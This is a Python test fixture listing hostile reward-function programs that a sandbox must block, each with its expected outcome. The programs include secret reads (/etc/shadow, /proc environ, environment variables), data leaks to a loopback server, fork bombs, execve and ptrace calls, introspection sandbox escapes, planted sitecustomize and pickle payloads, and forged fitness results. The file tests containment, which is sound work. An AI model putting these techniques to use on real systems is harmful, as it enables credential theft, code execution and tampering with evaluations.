"""Hostile reward programs and the outcome each must get.

Every program is also linted: ``lint=True`` means the static filter must turn
it away, ``lint=False`` that it gets past the filter (plain builtins, resource
abuse) so that the run-time layers are shown to hold on their own. Every program is
then run anyway, as a probe job built directly (bypassing the lint), and must
get ``expect``:

- "seccomp"   killed by the seccomp filter (SIGSYS)
- "cpu"       killed at the CPU-time limit
- "wall"      killed at the wall-clock deadline
- "disk"      killed for filling its folder
- "cpu|wall"  killed at either (a flood spends its time blocked on a full pipe)
- "error"     the probe reports a failure whose text matches ``match`` (a regex)
- "finding"   the probe runs, and the critic's probe findings match ``match``
- "contained" no particular end: only the checks every program gets matter

The checks every program gets (in test_adversarial.py): no secret reaches any
channel back to the parent (stdout, stderr, result, files left in its folder),
nothing outside its folder was written, no process outside was signalled, the
loopback server saw no connection, no marker of a spawned process appeared.

Placeholders, filled in per run: @PORT@ (a loopback TCP server), @ABSTRACT@
(an abstract unix socket), @SENTINEL@ (pid of a process of the test's),
@CHECKOUT@ (the project checkout), @HOME_CANARY@, @OTHER_RUN@ (another run's
folder), @MARKER@ (a path a spawned process would create), @ESCAPES@ (a list
of paths outside the run folder).
"""

from __future__ import annotations

from dataclasses import dataclass, field

OK_RETURN = "    return state.obs[:, 0], {'x': state.obs[:, 0]}\n"


@dataclass(frozen=True)
class Hostile:
    name: str
    code: str
    lint: bool
    expect: str
    match: str = ""
    needs: tuple[str, ...] = ()  # layers without which the run-time outcome cannot hold ("a|b": either)
    limits: dict = field(default_factory=dict)


def _entry(body: str) -> str:
    """A compute_reward whose body is ``body`` (indented), returning a valid reward after it."""
    lines = "".join(f"    {ln}\n" for ln in body.strip("\n").splitlines())
    return f"def compute_reward(state, action):\n{lines}{OK_RETURN}"


NS = ("namespaces",)
SEC = ("seccomp",)
NET = ("namespaces|seccomp",)  # either one keeps it off the network

PROGRAMS = [
    # ------------------------------------------------------------ reading secrets
    Hostile("read_home", "import torch\n" + _entry(
        "raise ValueError(open('@HOME_CANARY@').read())"),
        lint=True, expect="error", match="FileNotFoundError|PermissionError", needs=NS),
    Hostile("read_shadow", _entry(
        "raise ValueError(open('/etc/shadow').read())"),
        lint=True, expect="error", match="PermissionError|FileNotFoundError", needs=NS),
    Hostile("walk_checkout", "import os\n" + _entry("""
for top, dirs, files in os.walk('@CHECKOUT@'):
    dirs[:] = [d for d in dirs if d != '.venv']  # the installation: readable, and no secret
    for f in files:
        try:
            print(top, f, open(os.path.join(top, f), errors='replace').read())
        except OSError as e:
            print('denied', f, e)
"""), lint=True, expect="contained", needs=NS),
    Hostile("task_card_via_alias", "import numpy as np\nm = np\n" + _entry("""
raw = m.memmap('@CHECKOUT@/envs/halfcheetah-run.yaml', dtype=m.uint8, mode='r')
raise ValueError(bytes(raw.tolist()).decode())
"""), lint=True, expect="error", match="PermissionError|FileNotFoundError", needs=NS),
    Hostile("read_other_run", _entry("""
for p in ['@OTHER_RUN@/run.json', '../other_run/run.json', '../../other_run/run.json']:
    try:
        raise ValueError(open(p).read())
    except (FileNotFoundError, PermissionError):
        pass
raise FileNotFoundError('no other run visible')
"""), lint=True, expect="error", match="no other run visible", needs=NS),
    Hostile("read_proc", "import os\n" + _entry("""
for pid in os.listdir('/proc'):
    for what in ('environ', 'cmdline', 'maps'):
        try:
            print(pid, what, open(f'/proc/{pid}/{what}', 'rb').read())
        except OSError:
            pass
"""), lint=True, expect="contained", needs=NS),
    Hostile("env_secret", "import os\n" + _entry(
        "print(dict(os.environ))\nraise ValueError(str(dict(os.environ)))"),
        lint=True, expect="error", match="ValueError"),
    Hostile("env_secret_built_strings", _entry("""
b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
o = b['__imp' + 'ort__']('o' + 's')
raise ValueError(repr(getattr(o, 'env' + 'iron')))
"""), lint=True, expect="error", match="ValueError"),
    Hostile("symlink_result_to_secret", "import os\n" + """
os.symlink('@HOME_CANARY@', 'result.json')
os.symlink('@OTHER_RUN@/run.json', 'progress.jsonl')
os._exit(0)
""" + _entry("pass"), lint=True, expect="contained"),
    Hostile("hardlink_into_folder", "import os\n" + """
for i, src in enumerate(['@CHECKOUT@/pyproject.toml', '@OTHER_RUN@/run.json']):
    try:
        os.link(src, f'job{i}.json')
    except OSError as e:
        print('link refused', e)
""" + _entry("pass"), lint=True, expect="contained"),
    Hostile("fifo_result", "import os\nos.mkfifo('result.json')\nos._exit(0)\n" + _entry("pass"),
            lint=True, expect="contained"),
    # ------------------------------------------------------------ writing outside
    Hostile("write_outside", _entry("""
for p in @ESCAPES@:
    try:
        with open(p, 'w') as f:
            f.write('escaped')
    except OSError:
        pass
"""), lint=True, expect="contained", needs=NS),
    Hostile("write_checkout_via_alias", "import numpy as np\nm = np\n" + _entry(
        "m.save('@CHECKOUT@/rd-escape.npy', m.zeros(3))"),
        lint=True, expect="error", match="Read-only|PermissionError|FileNotFoundError", needs=NS),
    Hostile("overwrite_own_package", _entry(
        "open('@CHECKOUT@/reward_designer/worker.py', 'a').write('# pwned')"),
        lint=True, expect="error", match="Read-only|PermissionError", needs=NS),
    Hostile("plant_modules_for_next_run", "import os\n" + """
os.makedirs('.local/lib/python3.11/site-packages', exist_ok=True)
payload = "import sys; sys.stderr.write('PLANTED-CODE-RAN'); open('planted-code-ran', 'w')\\n"
for name in ['torch.py', 'numpy.py', 'sitecustomize.py', 'usercustomize.py', 'reward_designer.py']:
    open(name, 'w').write(payload)
open('.local/lib/python3.11/site-packages/evil.pth', 'w').write(payload)
""" + _entry("pass"), lint=True, expect="contained"),
    Hostile("big_file", _entry("""
with open('big.bin', 'wb') as f:
    for _ in range(10_000):
        f.write(b'0' * 2**20)
"""), lint=True, expect="error", match="File too large"),
    Hostile("many_files", _entry("""
for i in range(1_000_000):
    open(f'f{i}', 'w').close()
"""), lint=True, expect="disk"),
    Hostile("fill_tmp", "import os\n" + _entry("""
with open(os.path.join(os.environ.get('TMPDIR', '/tmp'), 'fill'), 'wb') as f:
    for _ in range(10_000):
        f.write(b'0' * 2**20)
"""), lint=True, expect="error", match="No space left", needs=NS, limits={"file_mb": 64}),
    # ------------------------------------------------------------ network
    Hostile("tcp_connect", "import socket\n" + _entry(
        "socket.create_connection(('127.0.0.1', @PORT@), timeout=3).sendall(b'leak')"),
        lint=True, expect="error", match="PermissionError|ConnectionRefused|Network is unreachable", needs=NET),
    Hostile("udp_send", "import socket\n" + _entry(
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', @PORT@))"),
        lint=True, expect="error", match="PermissionError|Network is unreachable", needs=NET),
    Hostile("http_urllib", "import urllib.request\n" + _entry(
        "urllib.request.urlopen('http://127.0.0.1:@PORT@/leak', timeout=3).read()"),
        lint=True, expect="error", match="URLError|PermissionError|Connection refused", needs=NET),
    Hostile("http_via_numpy_alias", "import numpy as np\nm = np\n" + _entry(
        "m.lib.npyio.DataSource(None).open('http://127.0.0.1:@PORT@/leak').read()"),
        lint=True, expect="error", match="URLError|PermissionError|not found|Connection refused", needs=NET),
    Hostile("ctypes_socket", "import ctypes, struct\n" + _entry("""
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.socket(2, 1, 0)
if fd < 0:
    raise PermissionError(ctypes.get_errno(), 'socket refused')
addr = struct.pack('!HH4s8x', 2, @PORT@, bytes([127, 0, 0, 1]))
addr = addr[:2][::-1] + addr[2:]  # sa_family is host order, the port network order
if libc.connect(fd, addr, len(addr)) != 0:
    raise ConnectionRefusedError(ctypes.get_errno(), 'connect refused')
"""), lint=True, expect="error", match="PermissionError|ConnectionRefused", needs=NET),
    Hostile("abstract_unix_socket", "import socket\n" + _entry("""
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect('\\0@ABSTRACT@')
s.sendall(b'leak')
"""), lint=True, expect="error", match="PermissionError|ConnectionRefused", needs=NET),
    # ------------------------------------------------------------ processes
    Hostile("os_system", "import os\n" + _entry("os.system('touch @MARKER@')"),
            lint=True, expect="seccomp", needs=SEC),
    Hostile("subprocess_run", "import subprocess\n" + _entry(
        "subprocess.run(['/bin/sh', '-c', 'echo pwned > @MARKER@'])"),
        lint=True, expect="seccomp", needs=SEC),
    Hostile("fork_bomb", "import os\n" + _entry("""
while True:
    os.fork()
"""), lint=True, expect="seccomp", needs=SEC),
    Hostile("fork_via_torch_alias", "import torch\nt = torch\n" + _entry("""
ctx = t.multiprocessing.get_context('fork')
p = ctx.Process(target=print, args=('child',))
p.start()
p.join()
"""), lint=True, expect="seccomp", needs=SEC),
    Hostile("posix_spawn", "import os\n" + _entry(
        "os.posix_spawn('/usr/bin/touch', ['touch', '@MARKER@'], {})"),
        lint=True, expect="seccomp", needs=SEC),
    Hostile("ctypes_execve", "import ctypes\n" + _entry("""
libc = ctypes.CDLL(None)
argv = (ctypes.c_char_p * 3)(b'/usr/bin/touch', b'@MARKER@', None)
libc.execve(b'/usr/bin/touch', argv, None)
"""), lint=True, expect="seccomp", needs=SEC),
    Hostile("raw_fork_syscall", "import ctypes\n" + _entry(
        "ctypes.CDLL(None).syscall(57)  # fork on x86_64"),
        lint=True, expect="seccomp", needs=SEC),
    # ------------------------------------------------------------ signals
    Hostile("kill_sentinel", "import os, signal\n" + _entry("os.kill(@SENTINEL@, signal.SIGKILL)"),
            lint=True, expect="seccomp", needs=SEC),
    Hostile("kill_everything", "import os, signal\n" + _entry("os.kill(-1, signal.SIGKILL)"),
            lint=True, expect="seccomp", needs=SEC),
    Hostile("kill_parent", "import os, signal\n" + _entry("os.kill(os.getppid(), signal.SIGTERM)"),
            lint=True, expect="seccomp", needs=SEC),
    Hostile("kill_sentinel_through_sigio", "import os, fcntl\n" + _entry("""
r, w = os.pipe()
fcntl.fcntl(r, fcntl.F_SETOWN, @SENTINEL@)
fcntl.fcntl(r, 10, 9)  # F_SETSIG: SIGKILL instead of SIGIO
fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)
os.write(w, b'x')
"""), lint=True, expect="seccomp", needs=SEC),
    # ------------------------------------------------------------ files' metadata and device nodes
    Hostile("chmod_a_file_outside", "import os\n" + _entry("""
p = '@CHECKOUT@/reward_designer/worker.py'
os.chmod(p, os.stat(p).st_mode & 0o7777)  # its own mode: nothing changes if it is allowed
raise ValueError('chmod was allowed')
"""), lint=True, expect="error", match="PermissionError|Read-only", needs=("namespaces|seccomp",)),
    Hostile("device_node_in_own_folder", "import os\n" + _entry("""
os.mknod('kmsg', 0o20600, os.makedev(1, 11))
raise ValueError(open('kmsg', 'rb').read(200))
"""), lint=True, expect="error", match="PermissionError", needs=("namespaces|landlock",)),
    # ------------------------------------------------------------ resources
    Hostile("memory_bomb", _entry("x = bytearray(16 * 2**30)"),
            lint=False, expect="error", match="MemoryError"),
    Hostile("torch_memory_bomb", "import torch\n" + _entry("x = torch.ones(2**33)"),
            lint=False, expect="error", match="allocate|memory|Memory"),
    Hostile("memory_creep", "import numpy as np\n" + _entry("""
hoard = []
while True:
    hoard.append(np.ones(2**24))
"""), lint=False, expect="error", match="MemoryError|Unable to allocate", limits={"memory_mb": 1536, "cpu_s": 20}),
    Hostile("infinite_loop", _entry("""
while True:
    pass
"""), lint=False, expect="cpu"),
    Hostile("ignore_sigxcpu", "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\n" + _entry("""
while True:
    pass
"""), lint=True, expect="cpu"),
    Hostile("long_c_call_math", "import math\n" + _entry("x = math.factorial(10**8)"),
            lint=False, expect="cpu"),
    Hostile("long_c_call_torch", "import torch\n" + _entry(
        "x = torch.linalg.eigvals(torch.rand(4000, 4000))"),
        lint=False, expect="cpu"),
    Hostile("long_c_call_numpy", "import numpy as np\n" + _entry(
        "x = np.linalg.eigvals(np.random.rand(4000, 4000))"),
        lint=False, expect="cpu"),
    Hostile("sleep_forever", "import time\n" + _entry("time.sleep(10**6)"),
            lint=True, expect="wall", limits={"wall_s": 8.0}),
    Hostile("deep_recursion", "def f(n):\n    return f(n + 1)\n\n" + _entry("f(0)"),
            lint=False, expect="error", match="RecursionError"),
    Hostile("c_stack_overflow", "import sys\nsys.setrecursionlimit(10**8)\n"
            "def f(n):\n    return f(n + 1) + 1\n\n" + _entry("f(0)"),
            lint=True, expect="contained"),
    Hostile("stdout_flood", _entry("""
while True:
    print('x' * 65536)
"""), lint=False, expect="cpu|wall"),
    Hostile("stderr_flood_binary", "import sys\n" + _entry("""
while True:
    sys.stderr.buffer.write(bytes(range(256)) * 256)
"""), lint=True, expect="cpu|wall"),
    # ------------------------------------------------------------ introspection escapes
    Hostile("subclasses_escape", _entry("""
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == '_wrap_close':
        cls.__init__.__globals__['system']('touch @MARKER@')
raise RuntimeError('no os._wrap_close found')
"""), lint=True, expect="seccomp", needs=SEC),
    Hostile("frame_escape", "import sys\n" + _entry("""
g = sys._getframe(1).f_globals
os_module = g.get('os') or sys.modules['os']
os_module.system('touch @MARKER@')
"""), lint=True, expect="seccomp", needs=SEC),
    Hostile("generator_frame_escape", _entry("""
def gen():
    yield g.gi_frame.f_back.f_globals
g = gen()
worker_globals = next(g)
worker_globals['__builtins__']['__import__']('subprocess').run(['touch', '@MARKER@'])
"""), lint=True, expect="seccomp", needs=SEC),
    Hostile("gc_escape", "import gc\n" + _entry("""
for obj in gc.get_objects():
    if isinstance(obj, dict) and 'Popen' in obj:
        obj['Popen'](['touch', '@MARKER@'])
raise RuntimeError('no Popen reachable')
"""), lint=True, expect="seccomp", needs=SEC),
    Hostile("importlib_escape", "import importlib\n" + _entry(
        "importlib.import_module('sub' + 'process').call(['touch', '@MARKER@'])"),
        lint=True, expect="seccomp", needs=SEC),
    Hostile("ctypes_ptrace_parent", "import ctypes, os\n" + _entry(
        "ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)  # PTRACE_ATTACH"),
        lint=True, expect="seccomp", needs=SEC),
    Hostile("raise_limits", "import resource\n" + _entry(
        "resource.setrlimit(resource.RLIMIT_CPU, (10**6, 10**6))"),
        lint=True, expect="seccomp", needs=SEC),
    Hostile("format_string_introspection", _entry("""
spec = '{0.' + '_' * 2 + 'class' + '_' * 2 + '.' + '_' * 2 + 'mro' + '_' * 2 + '}'
print(spec.format(state))
"""), lint=False, expect="contained"),
    # ------------------------------------------------------------ integrity
    Hostile("inplace_state_edits", _entry("""
state.qpos.mul_(0)
state._physics['qpos'][:] = 1e9
action.mul_(0)
"""), lint=True, expect="contained"),
    Hostile("patch_torch_and_numpy", "import torch\nimport numpy as np\n"
            "torch.Tensor.sum = lambda self, *a, **k: torch.zeros(())\n"
            "np.mean = lambda *a, **k: 0.0\n" + _entry("pass"),
            lint=True, expect="contained"),
    Hostile("forge_result", "import json, os\n" + """
json.dump({'result': {'kind': 'probe', 'ok': True, 'reward_shape': [2], 'reward_dtype': 'torch.float32',
          'finite': True, 'constant': False, 'components': {'x': 1.0}, 'component_sum_gap': 0.0}},
          open('result.json', 'w'))
open('progress.jsonl', 'w').write('{"global_step": 1e12, "fitness": 1e9}\\n')
os._exit(0)
""" + _entry("pass"), lint=True, expect="contained"),
    Hostile("tamper_sibling_fitness", _entry("""
for p in ['../fitness/result.json', '@OTHER_RUN@/../fitness/result.json']:
    try:
        open(p, 'w').write('{"fitness": 1e9}')
    except OSError:
        pass
"""), lint=True, expect="contained", needs=NS),
    Hostile("pickle_payload_policy", "import pickle, numpy as np\n" + """
class Payload:
    def __reduce__(self):
        return (open, ('@MARKER@', 'w'))
np.savez('policy.npz', meta=np.array([Payload()], dtype=object))
""" + _entry("pass"), lint=True, expect="contained"),
    Hostile("nonfinite_reward", "import torch\n" + _entry(
        "return torch.full((state.obs.shape[0],), float('nan')), {'x': torch.zeros(state.obs.shape[0])}"),
        lint=False, expect="finding", match="NaN or infinite"),
    Hostile("huge_reward_tensor", "import torch\n" + _entry(
        "return torch.zeros(10**7), {}"), lint=False, expect="error", match="shape"),
    Hostile("component_flood", "import torch\n" + _entry(
        "return state.obs[:, 0], {f'c{i}': state.obs[:, 0] for i in range(100_000)}"),
        lint=False, expect="error", match="at most"),
    Hostile("huge_error_message", _entry("raise ValueError('x' * 10**8)"),
            lint=False, expect="error", match="x{100}"),
    Hostile("evil_tensor_subclass", "import torch\n" + """
class Evil(torch.Tensor):
    def detach(self):
        open('@MARKER@', 'w').write('ran in the parent?')
        return super().detach()
""" + _entry("r = state.obs[:, 0].as_subclass(Evil)\nreturn r, {'x': r}"),
        lint=True, expect="contained", needs=NS),
]
